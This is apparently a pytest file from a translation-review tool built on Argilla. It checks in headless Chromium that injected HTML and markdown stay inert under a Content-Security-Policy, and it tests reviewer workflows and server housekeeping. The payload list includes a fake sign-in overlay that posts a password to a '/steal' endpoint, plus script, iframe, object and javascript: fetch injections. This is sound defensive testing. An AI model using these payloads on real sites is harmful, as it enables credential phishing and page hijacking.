"""The review page as a medical expert meets it, in headless Chromium on a real embedded Argilla.

Hostile record texts (the payloads of issue #11) stay text under the Content-Security-Policy, with no
request leaving for another host or port; an expert's accept, correction and reject in the web UI
land in the catalog as verdicts, with an error span. Also `serve`'s housekeeping: private files, bad
search filters answered 4xx, a second `serve` refused, the leftovers of a killed one stopped. Skipped,
with the reason, without the `annotation` extra (browser tests also without Chromium or `websockets`).
"""

import http.server
import json
import os
import re
import shutil
import signal
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

pytest.importorskip("argilla_server", reason='argilla-server not installed: pip install -e ".[annotation]"')

import argilla as rg  # noqa: E402
from click.testing import CliRunner  # noqa: E402

from jisr.annotation.push import dataset_settings, push, suggested_correction  # noqa: E402
from jisr.catalog.store import CATALOG_FILE, Catalog  # noqa: E402
from jisr.cli import main  # noqa: E402
from ports import free_port  # noqa: E402
from review_server import (add_reviewer, api_client, argilla, cli, keep_all, need_chromium, seed_catalog, seed_chats,  # noqa: E402,F401
                           settle, sign_in_ui)

ARTIFACTS = Path(__file__).parent / "artifacts"
UI_FONTS = "https://fonts.googleapis.com/css2?"
# What the record fields may render to: jisr's headings and paragraphs, its right-to-left wrapper and
# the checks table; no attribute but the wrapper's direction and language and a cell's alignment.
ALLOWED_TAGS = ["P", "STRONG", "DIV", "BR", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD"]
ALLOWED_ATTRIBUTES = ["dir", "lang", "align"]
FIELDS_JS = """(() => {
  const roots = [...document.querySelectorAll('.record__content .markdown-render, .span-annotation__field')];
  const found = [];
  for (const root of roots) {
    for (const el of root.querySelectorAll('*')) {
      if (!%(tags)s.includes(el.tagName)) found.push(el.tagName.toLowerCase());
      for (const a of el.attributes) if (!%(attributes)s.includes(a.name)) found.push(`${el.tagName}@${a.name}`);
    }
    for (const el of root.querySelectorAll('img,object,embed,form,style,a[href],iframe,script,input,link,svg'))
      found.push(el.tagName.toLowerCase());
  }
  return {fields: roots.length, found, texts: roots.map(r => r.innerText.replace(/\\s+/g, ' ').trim()),
          rtl: [...document.querySelectorAll('.record__content div[dir=rtl][lang=ar]')]
                 .map(d => getComputedStyle(d).direction),
          body: getComputedStyle(document.body).display,
          forms: [...document.forms].filter(f => f.closest('.record__content')).length};
})()""" % {"tags": json.dumps(ALLOWED_TAGS), "attributes": json.dumps(ALLOWED_ATTRIBUTES)}
# Every Content-Security-Policy violation the page reports, recorded from the first script on.
CSP_LISTENER = ("window.__violations = []; document.addEventListener('securitypolicyviolation', "
                "e => window.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));")


class Listener:
    """An HTTP server on another port of this machine that records every request it gets."""

    def __init__(self):
        heard = self.heard = []

        class Record(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                heard.append(f"{self.command} {self.path}")
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), Record)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener():
    found = Listener()
    yield found
    found.close()


def hostile_texts(url: str) -> list[str]:
    """Issue #11's payloads, each pointing at `url` (another port): overlay, blanking, fetches, plugins,
    links, scripts."""
    return [
        f'</div><div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:9999">'
        f'<form action="{url}/steal" method="post"><p>Session expired, sign in</p><input name="password">'
        f'<button>Sign in</button></form></div>',
        "<style>body{display:none}</style>",
        f"<img src={url}/img.png>",
        f"![]({url}/markdown.png) ![x][r]\n\n[r]: {url}/reference.png",
        f'<div style="background:url({url}/css.png)">styled</div>',
        f"<object data={url}/object></object>",
        f'<object data="javascript:fetch(\'{url}/javascript\')"></object>',
        f"[sign in]({url}/link) <{url}/autolink> www.example.com nurse@example.com",
        f"<script>fetch('{url}/script')</script><iframe src={url}/frame></iframe>",
        "# heading\n\n- list\n\n    indented code\n\n**السؤال** `code`",
    ]


def _visible(text: str) -> str:
    """A text as the browser lays it out in a paragraph: runs of whitespace are one space."""
    return re.sub(r"\s+", " ", text).strip()


def _open_each_record(page, server, dataset_id: str, count: int):
    """Each record of the dataset in annotation mode, one after another (the UI's `page` parameter)."""
    for n in range(1, count + 1):
        page.goto(f"{server.url}/dataset/{dataset_id}/annotation-mode?page={n}&status=pending")
        page.wait(f"document.querySelector('.pagination__info')?.textContent.replace(/\\s+/g, ' ').trim() "
                  f"=== '{n} of {count}'", f"record {n} of {count}")
        page.wait("document.querySelectorAll('.record__content .markdown-render').length > 0", "the fields")
        settle(page)
        yield n


def _foreign_requests(page, server) -> list[tuple[str, str | None]]:
    """(URL, why the browser stopped it or None) of each request the page started (CDP
    `Network.requestWillBeSent`) to anything but the review server."""
    blocked = {e["params"]["requestId"]: e["params"].get("blockedReason") for e in page.events
               if e["method"] == "Network.loadingFailed"}
    return [(e["params"]["request"]["url"], blocked.get(e["params"]["requestId"])) for e in page.events
            if e["method"] == "Network.requestWillBeSent"
            and not e["params"]["request"]["url"].startswith((server.url + "/", "data:", "blob:"))]


def _not_the_ui_fonts(found: list) -> list:
    """What is left once Argilla's own Google Fonts stylesheets are set aside: its CSS `@import`s them,
    and the policy blocks them (so no reviewer's browser contacts Google; the UI uses local fonts)."""
    return [f for f in found if UI_FONTS not in str(f)]


def test_hostile_texts_stay_text_under_the_csp(argilla, listener, tmp_path):
    """Every payload, in the English and Arabic texts of a pair and in a chat's turns, is shown as the
    literal text it is: no element it names appears in a field, the page stays whole, and no request
    reaches another port (the listener's) or leaves for any other origin (CDP's network events)."""
    Browser = need_chromium()
    payloads = hostile_texts(listener.url)
    catalog = tmp_path / CATALOG_FILE
    seed_catalog(catalog, [(f"case {i}: {p}", p, f"سؤال {i}: {p}", f"جواب: {p}") for i, p in enumerate(payloads)])
    chat_catalog = tmp_path / "chats" / CATALOG_FILE
    chat_catalog.parent.mkdir()
    english = [{"role": "user", "content": payloads[0]}, {"role": "assistant", "content": payloads[3]}]
    arabic = [{"role": "user", "content": f"سؤال: {payloads[2]}"}, {"role": "assistant", "content": payloads[8]}]
    seed_chats(chat_catalog, [(english, arabic)])
    client = rg.Argilla(api_url=argilla.url, api_key=argilla.api_key)
    push(client, catalog, "hostile", "review", per_stratum=5, include_dropped=True)
    push(client, chat_catalog, "hostile", "review", per_stratum=5, include_dropped=True)
    dataset_id = str(client.datasets(name="hostile", workspace="review").id)
    password = add_reviewer(argilla, "hostile-nurse")
    count = len(payloads) + 1

    seen = set()
    with Browser(tmp_path / "chromium-profile") as page:
        page.send("Network.enable")
        page.send("Page.addScriptToEvaluateOnNewDocument", source=CSP_LISTENER)
        sign_in_ui(page, argilla, "hostile-nurse", password)
        for n in _open_each_record(page, argilla, dataset_id, count):
            report = page.eval(FIELDS_JS)
            report["violations"] = page.eval("window.__violations")
            shown = " | ".join(report["texts"])
            case = re.search(r"case (\d+):", shown)
            seen.add(int(case[1]) if case else "chat")
            if case and int(case[1]) == 0:  # the fake sign-in overlay: photographed, to be looked at
                page.screenshot(tmp_path / "hostile.png")
            if not case:
                page.screenshot(tmp_path / "hostile-chat.png")
            assert report["found"] == [], (n, report["found"], shown)
            assert report["body"] != "none" and report["forms"] == 0
            assert report["rtl"] and set(report["rtl"]) == {"rtl"}, report["rtl"]
            if case:
                payload = payloads[int(case[1])]
                assert _visible(f"case {case[1]}: {payload}") in shown and _visible(f"جواب: {payload}") in shown
            else:
                assert _visible(payloads[0]) in shown and _visible(payloads[8]) in shown
            assert _not_the_ui_fonts(report["violations"]) == [], report["violations"]
        settle(page, 1000)  # anything still on its way has been sent by now
        foreign = _foreign_requests(page, argilla)
    assert seen == set(range(len(payloads))) | {"chat"}
    assert all(reason == "csp" for _, reason in foreign)  # the UI's fonts, stopped by the policy
    assert _not_the_ui_fonts(foreign) == []
    assert listener.heard == []
    ARTIFACTS.mkdir(exist_ok=True)
    for name in ("hostile.png", "hostile-chat.png"):
        assert (tmp_path / name).read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
        shutil.copy(tmp_path / name, ARTIFACTS / name)


def test_content_security_policy_blocks_what_escaping_would_miss(argilla, listener, tmp_path):
    """A record logged raw by another tool (no escaping): an `<img>` with a remote `src` becomes an
    element (kept by Argilla's markdown sanitiser; the span annotator sanitises nothing), and the policy
    stops the browser from fetching it."""
    Browser = need_chromium()
    client = rg.Argilla(api_url=argilla.url, api_key=argilla.api_key)
    dataset = rg.Dataset(name="raw", workspace="review", settings=dataset_settings([], 1), client=client).create()
    dataset.records.log([rg.Record(fields={"source_en": f'Raw <img src="{listener.url}/raw.png">',
                                           "translation_ar": f'نص <img src="{listener.url}/raw-ar.png">'})])
    password = add_reviewer(argilla, "raw-nurse")
    with Browser(tmp_path / "chromium-profile") as page:
        page.send("Network.enable")
        page.send("Page.addScriptToEvaluateOnNewDocument", source=CSP_LISTENER)
        sign_in_ui(page, argilla, "raw-nurse", password)
        for _ in _open_each_record(page, argilla, str(dataset.id), 1):
            images = page.wait("document.querySelectorAll('.record__content .markdown-render img, "
                               ".span-annotation__field img').length === 2 && 2", "the raw image elements")
            violations = page.wait("window.__violations.length && window.__violations", "the policy to report")
        settle(page, 1000)
        foreign = _foreign_requests(page, argilla)
    assert images == 2  # both became elements: only the policy stands between
    assert sorted(_not_the_ui_fonts(violations)) == [f"img-src {listener.url}/raw-ar.png", f"img-src {listener.url}/raw.png"]
    assert sorted(_not_the_ui_fonts(foreign)) == [(f"{listener.url}/raw-ar.png", "csp"), (f"{listener.url}/raw.png", "csp")]
    assert listener.heard == []


# What the expert does to each of three records, by the case number its English source shows.
ACTIONS = {
    0: {"ratings": (5, 5), "errors": []},  # accept, correction box left as pre-filled
    1: {"ratings": (3, 4), "errors": ["terminology"], "edit": ("بالأدوية", "بالأدوية وتغيير نمط الحياة")},
    2: {"ratings": (1, 2), "errors": ["mistranslation", "omission"], "span": ("major", "بالأدوية")},  # reject
}


def test_expert_accepts_corrects_and_rejects_in_the_browser(argilla, tmp_path):
    """An expert signs in, accepts one translation, corrects one by editing the pre-filled correction
    (plain text, right to left) and rejects one; `jisr review pull` lands them as the verdicts that
    decide mixes (`review_status`, `translation_verdicts`), the correction as a record of its own."""
    Browser = need_chromium()
    catalog = argilla.dir.parent / CATALOG_FILE
    ids = seed_catalog(catalog, [(f"How is blood pressure treated, case {i}?", f"With medicines ({i}).",
                                  f"كيف يعالج ضغط الدم، الحالة {i}؟", f"يعالج بالأدوية ({i}).") for i in ACTIONS])
    keep_all(catalog)
    pushed = cli(argilla, "push", "--dataset", "actions", "--per-stratum", "5", "--include-dropped",
                 "--url", argilla.url)
    assert pushed.exit_code == 0, pushed.output
    dataset_id = str(rg.Argilla(api_url=argilla.url, api_key=argilla.api_key).datasets(
        name="actions", workspace="review").id)
    password = add_reviewer(argilla, "expert")

    done, boxes = [], {}
    with Browser(tmp_path / "chromium-profile") as page, api_client(argilla) as owner:
        sign_in_ui(page, argilla, "expert", password)
        for left in range(len(ACTIONS), 0, -1):  # the first pending record, until none is left
            next(_open_each_record(page, argilla, dataset_id, left))
            case = int(page.wait("document.querySelector('.record__content').innerText.match(/case (\\d+)\\?/)?.[1]",
                                 "the record's English source"))
            action = ACTIONS[case]
            boxes[case] = page.eval("(() => { const box = document.querySelector('#contentId');"
                                    " return {text: box.innerText, rtl: box.classList.contains('--rtl')}; })()")
            for question, value in zip(("adequacy", "fluency"), action["ratings"]):
                page.click(f"label[for={question}_{value}]")
            for error in action["errors"]:
                page.click(f"label[for=errors_{error}]")
            if "span" in action:  # an error span on the Arabic: severity first, then the words
                page.click(f"label[for=error-5fspans-2d{action['span'][0]}]")
                page.select(".span-annotation__field", action["span"][1])
                page.click(".span-annotation__field")
                page.wait("document.querySelector('.span-annotation__field')?.parentElement?.innerText"
                          ".toLowerCase().includes('major')", "the span's label")
                settle(page)
                page.screenshot(tmp_path / "span.png")
            if "edit" in action:
                page.type_over("#contentId", *action["edit"])
                settle(page)
                page.screenshot(tmp_path / "correction.png")
            page.wait(" && ".join(f"document.querySelector('#{q}_{v}').checked"
                                  for q, v in zip(("adequacy", "fluency"), action["ratings"])), "the ratings")
            page.click("button.button--submit")
            done.append(case)
            page._until(lambda: owner.get(f"/api/v1/datasets/{dataset_id}/progress").json()["completed"]
                        == len(done), "the submitted response to reach the server")
    ARTIFACTS.mkdir(exist_ok=True)
    for name in ("correction.png", "span.png"):
        shutil.copy(tmp_path / name, ARTIFACTS / name)
    assert sorted(done) == sorted(ACTIONS)
    # The box started as the machine translation, plain text (no `**`), right to left.
    assert boxes[0]["rtl"] and "*" not in boxes[0]["text"] and boxes[0]["text"].split() == [
        "[السؤال]", "كيف", "يعالج", "ضغط", "الدم،", "الحالة", "0؟", "[الجواب]", "يعالج", "بالأدوية", "(0)."]

    pulled = cli(argilla, "pull", "--dataset", "actions", "--url", argilla.url)
    assert pulled.exit_code == 0, pulled.output
    with Catalog.open(catalog, read_only=True) as cat:
        status = {r[0]: r[1:] for r in cat.con.execute(
            "SELECT record_id, status, corrected_record_id FROM review_status WHERE dataset = 'actions'").fetchall()}
        verdicts = {r[0]: r[1:] for r in cat.con.execute(
            "SELECT record_id, verdict, decided_by, reviewers, correction_id FROM translation_verdicts").fetchall()}
        errors = dict(cat.con.execute("SELECT record_id, errors FROM reviews WHERE dataset = 'actions'").fetchall())
        spans = cat.con.execute(  # the query docs/review.md gives
            "SELECT record_id, s.label, s.start, s.\"end\" FROM reviews, unnest(from_json(values->'error_spans'->'value', "
            "'[{\"label\": \"VARCHAR\", \"start\": \"INTEGER\", \"end\": \"INTEGER\"}]')) AS t(s) "
            "WHERE dataset = 'actions'").fetchall()
        correction_id = status[ids[1]][1]
        corrected = cat.con.execute("SELECT prompt, response, parent_id FROM records WHERE record_id = ?",
                                    [correction_id]).fetchone()
    assert {rid: s for rid, (s, _) in status.items()} == {ids[0]: "accepted", ids[1]: "corrected",
                                                          ids[2]: "rejected", correction_id: "correction"}
    assert verdicts[ids[0]] == ("accepted", "expert", ["expert"], None)
    assert verdicts[ids[1]] == ("corrected", "expert", ["expert"], correction_id)
    assert verdicts[ids[2]][:3] == ("rejected", "expert", ["expert"])
    assert verdicts[correction_id][:2] == ("correction", "expert")
    assert corrected == ("كيف يعالج ضغط الدم، الحالة 1؟", "يعالج بالأدوية وتغيير نمط الحياة (1).", ids[1])
    # The span's offsets index the Arabic as shown, which is the pre-filled correction's text.
    shown = suggested_correction({"translated_messages": None, "translated_prompt": "كيف يعالج ضغط الدم، الحالة 2؟",
                                  "translated_response": "يعالج بالأدوية (2)."})
    assert [(rid, label, shown[start:end]) for rid, label, start, end in spans] == [(ids[2], "major", "بالأدوية")]
    assert {rid: sorted(e) for rid, e in errors.items()} == {ids[c]: sorted(a["errors"]) for c, a in ACTIONS.items()}
    # A mix with the default policy (review: gate): the rejected translation out, the correction in and the
    # machine translation it corrects out, the accepted one in.
    recipe = tmp_path / "reviewed.yaml"
    recipe.write_text("name: reviewed\nbudget: 10000000\nratio: '100:0'\n", encoding="utf-8")
    built = CliRunner().invoke(main, ["--home", str(catalog.parent), "mix", "build", str(recipe), "--allow-shortfall"])
    assert built.exit_code == 0, built.output
    with Catalog.open(catalog, read_only=True) as cat:
        members = {r for (r,) in cat.con.execute("SELECT record_id FROM mix_members WHERE name = 'reviewed'").fetchall()}
    assert {ids[0], correction_id} <= members and not {ids[1], ids[2]} & members


def test_every_file_under_the_review_home_is_private(argilla):
    """After a push (so the database and its journal hold every user's API key): every file under
    `<home>/review/` is readable by its owner only, the folder too, Redis's socket included."""
    client = rg.Argilla(api_url=argilla.url, api_key=argilla.api_key)
    rg.User(username="private-nurse", password="a-long-password-1", role="annotator", client=client).create()
    modes = {p.name: stat.S_IMODE(p.lstat().st_mode) for p in argilla.dir.iterdir()}
    assert {"argilla.db", "credentials.json", "serve.json", "serve.lock", "server.log", "redis.sock"} <= set(modes)
    assert {name: oct(mode) for name, mode in modes.items() if mode & 0o077} == {}
    assert stat.S_IMODE(argilla.dir.stat().st_mode) == 0o700


def test_bad_search_filters_get_a_4xx(argilla):
    """What a client gets wrong in a search is answered 4xx (422), never a server error."""
    client = rg.Argilla(api_url=argilla.url, api_key=argilla.api_key)
    dataset = rg.Dataset(name="filters", workspace="review", settings=dataset_settings(["chrf"], 1),
                         client=client).create()

    def one(condition):
        return {"query": {}, "filters": {"and": [condition]}}

    def metadata(name, **condition):
        return one({"scope": {"entity": "metadata", "metadata_property": name}, **condition})

    bad = {
        "record id not a UUID": one({"type": "terms", "scope": {"entity": "record", "property": "id"},
                                     "values": ["not-a-uuid"]}),
        "unknown metadata property": metadata("nope", type="terms", values=["x"]),
        "range with no bound": metadata("qe_chrf", type="range"),
        "range upside down": metadata("qe_chrf", type="range", ge=9, le=1),
        "no values": metadata("category", type="terms", values=[]),
        "unknown filter type": metadata("category", type="nearby", values=["x"]),
        "unknown question": one({"type": "terms", "scope": {"entity": "response", "question": "nope"}, "values": ["x"]}),
        "unknown field": {"query": {"text": {"q": "x", "field": "nope"}}},
        "sort by unknown property": {"query": {}, "sort": [{"scope": {"entity": "metadata",
                                                                       "metadata_property": "nope"}, "order": "asc"}]},
    }
    with api_client(argilla) as http:
        answers = {name: http.post(f"/api/v1/me/datasets/{dataset.id}/records/search", json=body).status_code
                   for name, body in bad.items()}
        broken = http.post(f"/api/v1/me/datasets/{dataset.id}/records/search", content=b"{not json",
                           headers={"content-type": "application/json"}).status_code
    assert answers == {name: 422 for name in bad}
    assert broken == 422


def _serve(home: Path, port: int, name: str) -> tuple[subprocess.Popen, Path]:
    """`jisr --home HOME review serve --port PORT` in a process of its own; (process, its output file)."""
    out = home / f"{name}.out"
    with open(out, "w") as log:
        proc = subprocess.Popen([sys.executable, "-m", "jisr.cli", "--home", str(home), "review", "serve",
                                 "--port", str(port)], stdout=log, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL,
                                env={**os.environ, "COLUMNS": "200"})
    return proc, out


def _until(ready, what: str, timeout: float = 120):
    deadline = time.monotonic() + timeout
    while not ready():
        if time.monotonic() > deadline:
            raise TimeoutError(f"timed out waiting for {what}")
        time.sleep(0.2)


def test_serve_refuses_a_second_and_cleans_up_after_a_kill(tmp_path):
    """One `serve` per home: a second is refused in one line while the first runs. After a kill -9 of
    the first (its Redis, server and worker left running, holding the port), the next `serve` stops
    what the killed one left, says so, tightens a file left readable, and starts."""
    from jisr.annotation.hosting.embedded import _started

    home = tmp_path / "home"
    home.mkdir()
    port = free_port()
    children = []
    first, first_out = _serve(home, port, "first")
    try:
        _until(lambda: "Argilla is running" in first_out.read_text() or first.poll() is not None, "the first serve")
        assert first.poll() is None, first_out.read_text()
        children = json.loads((home / "review" / "serve.json").read_text())["children"]
        assert [c["name"] for c in children] == ["Redis", "server", "worker"]

        second, second_out = _serve(home, free_port(), "second")
        assert second.wait(120) == 1
        refused = second_out.read_text().strip().splitlines()
        assert refused == [f"error: another `jisr review serve` is running on this home (pid {first.pid} at "
                           f"http://127.0.0.1:{port}); stop it first"]

        first.send_signal(signal.SIGKILL)
        first.wait(30)
        assert all(_started(c["pid"]) == c["started"] for c in children)  # orphans, still running
        (home / "review" / "argilla.db").chmod(0o644)  # as an older jisr left it
        third, third_out = _serve(home, port, "third")
        try:
            _until(lambda: "Argilla is running" in third_out.read_text() or third.poll() is not None, "the next serve")
            text = third_out.read_text()
            assert third.poll() is None, text
            assert ("stopped what an earlier `serve` on this home left running: "
                    + ", ".join(f"{c['name']} (pid {c['pid']})" for c in children)) in " ".join(text.split())
            assert all(_started(c["pid"]) != c["started"] for c in children)
            assert stat.S_IMODE((home / "review" / "argilla.db").stat().st_mode) == 0o600
        finally:
            third.send_signal(signal.SIGTERM)
            assert third.wait(60) == 0
        assert not (home / "review" / "serve.json").exists()
    finally:  # whatever the test's outcome, nothing it started is left running
        if first.poll() is None:
            first.kill()
        for child in children:
            if _started(child["pid"]) == child["started"]:
                os.killpg(child["pid"], signal.SIGKILL)
